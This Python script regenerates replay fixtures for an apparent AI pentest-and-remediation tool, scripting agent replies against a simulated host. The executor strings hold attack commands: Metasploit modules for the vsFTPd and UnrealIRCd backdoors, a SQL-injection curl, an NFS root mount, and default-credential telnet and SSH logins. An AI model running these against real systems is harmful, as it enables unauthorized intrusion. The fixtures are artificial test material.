#!/usr/bin/env python3
"""Regenerate the bundled replay fixtures.

Drives the real pipeline against the simulator with scripted model
responses, recording every exchange. The recorded transcripts
(src/penheal/data/fixtures/*.jsonl) are what hermetic runs replay.
Rerun this script whenever prompts, plan rendering, or the simulator
output change, then commit the refreshed fixtures.

Usage: python scripts/build_fixtures.py [OUT_DIR]
OUT_DIR defaults to the bundled fixture directory; the test suite writes
to a scratch directory and compares the result with the bundled files.
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO / "src"))

from penheal.cli import _build_knowledge_base  # noqa: E402
from penheal.engine import PlanTable, merge_revision, render_plan, run_pentest  # noqa: E402
from penheal.gateway import AgentRole, ScriptedBackend, record_mode  # noqa: E402
from penheal.model import RunConfig, TaskNode, TaskStatus  # noqa: E402
from penheal.nvd import FixtureNvdClient  # noqa: E402
from penheal.remediation import remediate  # noqa: E402
from penheal.simulator import SimulatorBackend, load_host_model  # noqa: E402

FIXTURE_DIR = REPO / "src" / "penheal" / "data" / "fixtures"
TARGET = "10.0.2.4"


class PlanScript:
    """The scripted planner's plan in an engine ``PlanTable``: ``merge_revision`` makes every
    edit, and a warning stops the build; ``render_plan`` writes every full-plan reply."""

    def __init__(self):
        self.table = PlanTable()

    def add(self, task_id: str, description: str):
        self._merge(TaskNode(task_id, description))

    def mark(self, task_id: str, status: str, result: str):
        self._merge(TaskNode(task_id, self.table.tasks[task_id][0], TaskStatus(status), result))

    def _merge(self, line: TaskNode):
        if warnings := merge_revision(self.table, [line]):
            raise SystemExit(f"scripted plan: unexpected warnings: {warnings}")

    def render(self) -> str:
        return render_plan(self.table)


def golden6_scripts() -> dict[AgentRole, list[str]]:
    plan = PlanScript()
    plan.add("1", "Reconnaissance")
    plan.add("1.1", f"Scan open ports and running services on {TARGET}")
    plan.add("2", "Scanning")
    plan.add("2.1", "Run vulnerability detection scripts against the discovered services")
    plan.add("3", "Vulnerability Assessment")
    plan.add("3.1", "Prioritize the flagged weaknesses for exploitation")
    plan.add("4", "Exploitation")

    planner: list[str] = [plan.render()]  # init

    # iteration 1: full port scan
    planner.append("1.1")
    plan.mark("1.1", "completed", "ten open ports found, service versions recorded")
    plan.mark("1", "completed", "reconnaissance complete")
    planner.append(plan.render())

    # iteration 2: vuln scripts; assessment folded into the scan review
    planner.append("2.1")
    plan.mark("2.1", "completed", "scripts flag ftp backdoor, irc backdoor and web injection")
    plan.mark("2", "completed", "scanning complete")
    plan.mark("3.1", "completed", "priority order: port 21 backdoor, port 6667 backdoor, web injection")
    plan.mark("3", "completed", "assessment complete")
    plan.add("4.1", "Exploit the vsFTPd 2.3.4 backdoor on port 21 (CVE-2011-2523)")
    plan.add("4.2", "Exploit the UnrealIRCd backdoor on port 6667 (CVE-2010-2075)")
    plan.add("4.3", "Confirm the SQL injection point in the web application login form")
    planner.append(plan.render())

    # iteration 3: vsFTPd backdoor
    planner.append("4.1")
    plan.mark("4.1", "completed", "root shell opened via the vsFTPd backdoor")
    planner.append(plan.render())
    plan.add("4.4", "Mount the NFS export enumerated with showmount (port 2049)")
    planner.append(plan.render())  # counterfactual 1

    # iteration 4: UnrealIRCd backdoor
    planner.append("4.2")
    plan.mark("4.2", "completed", "backdoor command execution confirmed, shell opened")
    planner.append(plan.render())
    plan.add("4.5", "Try the default credential pairs against the telnet login (port 23)")
    planner.append(plan.render())  # counterfactual 2

    # iteration 5: SQL injection
    planner.append("4.3")
    plan.mark("4.3", "completed", "tautology in the username parameter dumped the accounts table")
    planner.append(plan.render())
    plan.add("4.6", "Use the shared weak credential pairs against the SSH daemon (port 22)")
    planner.append(plan.render())  # counterfactual 3

    # iteration 6: NFS export
    planner.append("4.4")
    plan.mark("4.4", "completed", "remote root filesystem mounted read-write over NFS")
    planner.append(plan.render())
    planner.append(plan.render())  # counterfactual 4 (no new branches left to add)

    # iteration 7: telnet default credentials
    planner.append("4.5")
    plan.mark("4.5", "completed", "default credentials accepted on the telnet login")
    planner.append(plan.render())
    planner.append(plan.render())  # counterfactual 5

    # iteration 8: weak SSH credentials
    planner.append("4.6")
    plan.mark("4.6", "completed", "weak credential pair accepted by the SSH daemon")
    planner.append(plan.render())
    plan.mark("4", "completed", "all identified attack paths exercised")
    planner.append(plan.render())  # counterfactual 6

    executor = [
        f"I will start with a full port sweep.\n$nmap -p- {TARGET}$",
        f"Running the vulnerability scripts next.\n$nmap --script vuln {TARGET}$",
        "The backdoor has a dedicated module.\n"
        f"$msfconsole: use exploit/unix/ftp/vsftpd_234_backdoor; set RHOSTS {TARGET}; exploit$",
        "Using the IRC backdoor module.\n"
        f"$msfconsole: use exploit/unix/irc/unreal_ircd_3281_backdoor; set RHOST {TARGET}; exploit$",
        "Testing the username parameter with a tautology.\n"
        f"$curl \"http://{TARGET}/mutillidae/index.php?page=user-info.php&username=' OR '1'='1\"$",
        "First list the exports, then mount the root export.\n"
        f"$showmount -e {TARGET}$ $mount -t nfs {TARGET}:/ /mnt/nfs$",
        "Trying the default pair with the telnet login scanner.\n"
        f"$msfconsole: use auxiliary/scanner/telnet/telnet_login; set RHOSTS {TARGET}; "
        "set USERNAME msfadmin; set PASSWORD msfadmin; run$",
        "Trying the same pair over SSH.\n"
        f"$sshpass -p msfadmin ssh msfadmin@{TARGET} id$",
    ]

    summarizer = [
        f"Open TCP ports on {TARGET}: 21 ftp (vsFTPd 2.3.4), 22 ssh (OpenSSH 4.7p1), "
        "23 telnet, 25 smtp (Postfix), 53 dns (BIND 9.4.2), 80 http (Apache 2.2.8), "
        "2049 nfs, 3306 mysql, 5432 postgresql, 6667 irc (UnrealIRCd).",
        "Vulnerability scripts flag: vsFTPd 2.3.4 backdoor on 21/ftp (CVE-2011-2523), "
        "trojaned UnrealIRCd on 6667/irc (CVE-2010-2075), SQL injection candidates in "
        "the web application on 80/http.",
        f"vsFTPd backdoor exploit succeeded: command shell session opened on {TARGET}, "
        "uid=0(root). CVE-2011-2523 confirmed.",
        "UnrealIRCd backdoor exploit succeeded: command shell session opened via port "
        "6667, backdoor command execution confirmed (CVE-2010-2075).",
        "SQL injection confirmed: the tautology in the username parameter returned the "
        "full accounts table (2 rows dumped).",
        f"showmount lists the export / open to everyone on {TARGET}.",
        f"Mounted {TARGET}:/ over NFS; the remote root filesystem is readable and "
        "writable (root access).",
        f"Telnet login scanner: default credentials msfadmin/msfadmin accepted on "
        f"{TARGET}:23; shell access as msfadmin.",
        f"SSH login with the weak pair msfadmin/msfadmin succeeded on {TARGET}:22; the "
        "same pairs are valid for MySQL and PostgreSQL.",
    ]

    extractor = [
        "NONE",
        "NONE",
        "Exploited: CVE-2011-2523\n"
        "service: ftp\nport: 21\n"
        "description: vsFTPd version 2.3.4 backdoor\n"
        "method: msfconsole exploit/unix/ftp/vsftpd_234_backdoor",
        "Exploited: CVE-2010-2075\n"
        "service: irc\nport: 6667\n"
        "description: Trojaned version of UnrealIRCd\n"
        "method: msfconsole exploit/unix/irc/unreal_ircd_3281_backdoor",
        "Exploited: CVE-NA\n"
        "service: http\nport: 80\n"
        "description: SQL injection points\n"
        "method: tautology in the username parameter of the web application",
        "Exploited: CVE-NA\n"
        "service: nfs\nport: 2049\n"
        "description: NFS export of / grants remote root access\n"
        "method: mounted the exported root filesystem",
        "Exploited: CVE-NA\n"
        "service: telnet\nport: 23\n"
        "description: Default credentials accepted on telnet\n"
        "method: telnet login with msfadmin/msfadmin",
        "Exploited: CVE-NA\n"
        "service: ssh\nport: 22\n"
        "description: Weak passwords on SSH shared with MySQL and PostgreSQL\n"
        "method: ssh login with msfadmin/msfadmin",
        # final pass over the whole history
        "Exploited: CVE-2011-2523\n"
        "service: ftp\nport: 21\n"
        "description: vsFTPd version 2.3.4 backdoor\n"
        "method: msfconsole exploit/unix/ftp/vsftpd_234_backdoor\n"
        "\n"
        "Exploited: CVE-2010-2075\n"
        "service: irc\nport: 6667\n"
        "description: Trojaned version of UnrealIRCd\n"
        "method: msfconsole exploit/unix/irc/unreal_ircd_3281_backdoor\n"
        "\n"
        "Exploited: CVE-NA\n"
        "service: http\nport: 80\n"
        "description: SQL injection points\n"
        "method: tautology in the username parameter of the web application\n"
        "\n"
        "Exploited: CVE-NA\n"
        "service: nfs\nport: 2049\n"
        "description: NFS export of / grants remote root access\n"
        "method: mounted the exported root filesystem\n"
        "\n"
        "Exploited: CVE-NA\n"
        "service: telnet\nport: 23\n"
        "description: Default credentials accepted on telnet\n"
        "method: telnet login with msfadmin/msfadmin\n"
        "\n"
        "Exploited: CVE-NA\n"
        "service: ssh\nport: 22\n"
        "description: Weak passwords on SSH shared with MySQL and PostgreSQL\n"
        "method: ssh login with msfadmin/msfadmin",
    ]

    estimator = [
        "CVSS:3.0/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:L/A:N",  # http sqli -> 8.2
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",  # nfs -> 9.8
        "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",  # telnet -> 9.8
        "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H",  # ssh -> 8.1
    ]

    advisor = [
        "1. Update vsFTPd to a current release: sudo apt-get update && sudo apt-get install vsftpd\n"
        "2. Shut down the FTP service until it can be rebuilt: sudo service vsftpd stop\n"
        "3. Schedule recurring security audits of the file transfer tier",
        "1. Reinstall UnrealIRCd from a verified source archive and compare checksums before starting it\n"
        "2. Restrict access to port 6667 to trusted hosts: ufw deny 6667/tcp\n"
        "3. Disable the IRC service permanently",
        "1. Rewrite the web application queries with parameterized statements (prepared statements)\n"
        "2. Deploy a web application firewall in front of port 80 with injection rules\n"
        "3. Change the passwords of the database accounts used by the web application",
        "1. Restrict the NFS export to trusted hosts in /etc/exports and run exportfs -ra\n"
        "2. Disable the NFS service entirely: service nfs-kernel-server stop",
        "1. Replace telnet with SSH and change the default account password: passwd msfadmin\n"
        "2. Block port 23 from untrusted networks: ufw deny 23/tcp",
        "1. Enforce strong unique passwords and rotate the shared pairs across SSH, MySQL and PostgreSQL\n"
        "2. Disable password authentication in sshd_config in favor of key-based logins",
    ]

    evaluator = [
        # ftp group
        "effect: full\ncost: low",
        "effect: full\ncost: high",
        "effect: partial 30%\ncost: low",
        # irc group
        "effect: full\ncost: low",
        "effect: partial 60%\ncost: low",
        "effect: full\ncost: high",
        # http group
        "effect: full\ncost: moderate",
        "effect: partial 50%\ncost: moderate",
        "effect: zero\ncost: low",
        # nfs group
        "effect: full\ncost: low",
        "effect: full\ncost: high",
        # telnet group
        "effect: full\ncost: low",
        "effect: partial 70%\ncost: low",
        # ssh group
        "effect: full\ncost: moderate",
        "effect: partial 80%\ncost: low",
    ]

    return {
        AgentRole.PLANNER: planner,
        AgentRole.EXECUTOR: executor,
        AgentRole.SUMMARIZER: summarizer,
        AgentRole.EXTRACTOR: extractor,
        AgentRole.ESTIMATOR: estimator,
        AgentRole.ADVISOR: advisor,
        AgentRole.EVALUATOR: evaluator,
    }


def nofind_scripts() -> dict[AgentRole, list[str]]:
    plan = PlanScript()
    plan.add("1", "Reconnaissance")
    plan.add("1.1", f"Scan open ports and running services on {TARGET}")
    plan.add("4", "Exploitation")
    plan.add("4.1", "Attempt to exploit the file transfer service")

    planner = [plan.render()]
    planner.append("1.1")
    plan.mark("1.1", "completed", "ten open ports found")
    plan.mark("1", "completed", "reconnaissance complete")
    planner.append(plan.render())
    planner.append("4.1")
    plan.mark("4.1", "failed", "the chosen module produced no session")
    plan.mark("4", "failed", "no exploitable path found with the attempted module")
    planner.append(plan.render())

    executor = [
        f"$nmap -p- {TARGET}$",
        f"$msfconsole: use exploit/unix/misc/made_up_module; set RHOSTS {TARGET}; exploit$",
    ]
    summarizer = [
        f"Open TCP ports on {TARGET}: 21, 22, 23, 25, 53, 80, 2049, 3306, 5432, 6667.",
        "The exploit module ran but created no session; the attempt failed.",
    ]
    extractor = ["NONE", "NONE", "NONE"]

    return {
        AgentRole.PLANNER: planner,
        AgentRole.EXECUTOR: executor,
        AgentRole.SUMMARIZER: summarizer,
        AgentRole.EXTRACTOR: extractor,
    }


def build(name: str, scripts: dict[AgentRole, list[str]], with_remediation: bool,
          out_dir: Path = FIXTURE_DIR) -> None:
    out_dir.mkdir(parents=True, exist_ok=True)
    out = out_dir / f"{name}.jsonl"
    backend = ScriptedBackend(scripts)
    gateway = record_mode(backend, out)
    config = RunConfig(target_address=TARGET)
    kb = _build_knowledge_base(None)

    result = run_pentest(config, SimulatorBackend(load_host_model()), gateway, kb)
    print(f"{name}: findings={len(result.findings)} termination={result.termination_reason}")
    for log in result.iterations:
        marker = " CF" if log.new_finding_keys else ""  # a counterfactual followed
        print(f"  it{log.iteration} task={log.task_id} new={len(log.new_finding_keys)}{marker}")
    if result.warnings:
        raise SystemExit(f"{name}: unexpected warnings: {result.warnings}")

    if with_remediation:
        rem = remediate(result.findings, config, gateway, FixtureNvdClient())
        if rem.warnings:
            raise SystemExit(f"{name}: remediation warnings: {rem.warnings}")
        adopted = [r for r in rem.selected]
        budget = config.budget_per_vuln * len(result.findings)
        used = round(sum(r.cost for r in adopted), 2)
        print(f"  adopted={len(adopted)} budget={budget} used={used}")
        for r in adopted:
            print(f"    [{r.cost:.1f} / {r.value:.1f}] {r.text[:70]}")

    leftovers = backend.remaining()
    if leftovers:
        raise SystemExit(f"{name}: unused scripted responses: {leftovers}")
    print(f"  wrote {out} ({len(out.read_text(encoding='utf-8').splitlines())} exchanges)")


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description="Regenerate the bundled replay fixtures.")
    parser.add_argument("out_dir", nargs="?", type=Path, default=FIXTURE_DIR,
                        help="directory to write the transcripts to (default: %(default)s)")
    out_dir = parser.parse_args(argv).out_dir
    build("golden6", golden6_scripts(), with_remediation=True, out_dir=out_dir)
    build("nofind", nofind_scripts(), with_remediation=False, out_dir=out_dir)


if __name__ == "__main__":
    main()
